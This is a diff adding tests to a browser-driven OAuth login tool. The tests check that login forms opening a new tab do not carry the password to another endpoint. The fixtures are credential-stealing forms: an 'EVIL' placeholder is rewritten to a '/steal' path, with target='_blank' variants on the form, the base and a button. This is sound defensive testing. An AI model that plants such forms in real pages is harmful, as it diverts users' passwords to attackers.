@@ -7,6 +7,8 @@ import { createBrowserLogin, createSecretLedger, type FrontChannel, type SecretL
 import { startTokenProvider, type TokenProvider } from '../journeys/token-provider.ts'
 import { chromiumLaunch, chromiumProblem } from './chromium.ts'
 
+let login = ''
+
 /** A login page that is nothing without script; whoever logs in is sent to the client. */
 function scriptedPage(request: IncomingMessage, response: ServerResponse): void {
   if (request.method === 'POST') {
@@ -21,6 +23,7 @@ function scriptedPage(request: IncomingMessage, response: ServerResponse): void 
     })
     return
   }
+  if (request.url === '/elsewhere') return void response.writeHead(200, { 'content-type': 'text/html' }).end(login)
   response
     .writeHead(200, { 'content-type': 'text/html' })
     .end(`<!doctype html><title>Log in</title><main></main><script>
@@ -100,6 +103,31 @@ describe('the tester logs in with a real browser', { skip: chromiumProblem }, ()
     assert.ok(outcome.kind === 'redirected', JSON.stringify(outcome))
     assert.equal(outcome.parameters.get('state'), 's2')
     assert.ok(outcome.parameters.has('code'))
+  })
+
+  for (const [name, form] of [
+    ['a form', '<form id="f" method="post" target="_blank" action="EVIL">'],
+    ['its base', '<base target="_blank"><form id="f" method="post" action="EVIL">'],
+    ['a button', '<form id="f" method="post" action="EVIL"><button form="f" formtarget="_blank">Log in</button>'],
+  ] as const)
+    test(`RFC 9700 §4.12: ${name} that opens another tab does not take the password elsewhere`, async () => {
+      login = `${form.replace('EVIL', `${clientOrigin}/steal`)}<input name="who"><input name="secret" type="password"><button>Log in</button></form>`
+      const before = hits
+      const outcome = await front.visit(`${origin}/elsewhere`, { scope: [], redirectUris: [] })
+      assert.ok(outcome.kind === 'redirected', JSON.stringify(outcome))
+      assert.equal(hits, before)
+    })
+
+  test('a browser that does not start is told, and closing it is no trouble', async () => {
+    const broken = createBrowserLogin({
+      secrets,
+      users: [],
+      origins: new Set(),
+      launch: { executablePath: '/nowhere' },
+    })
+    const outcome = await broken.visit(origin, { scope: [], redirectUris: [] })
+    assert.match(outcome.kind === 'stuck' ? outcome.reason : '', /the browser could not go on/)
+    await broken.close()
   })
 
   test('a user who is idle sees the page', async () => {
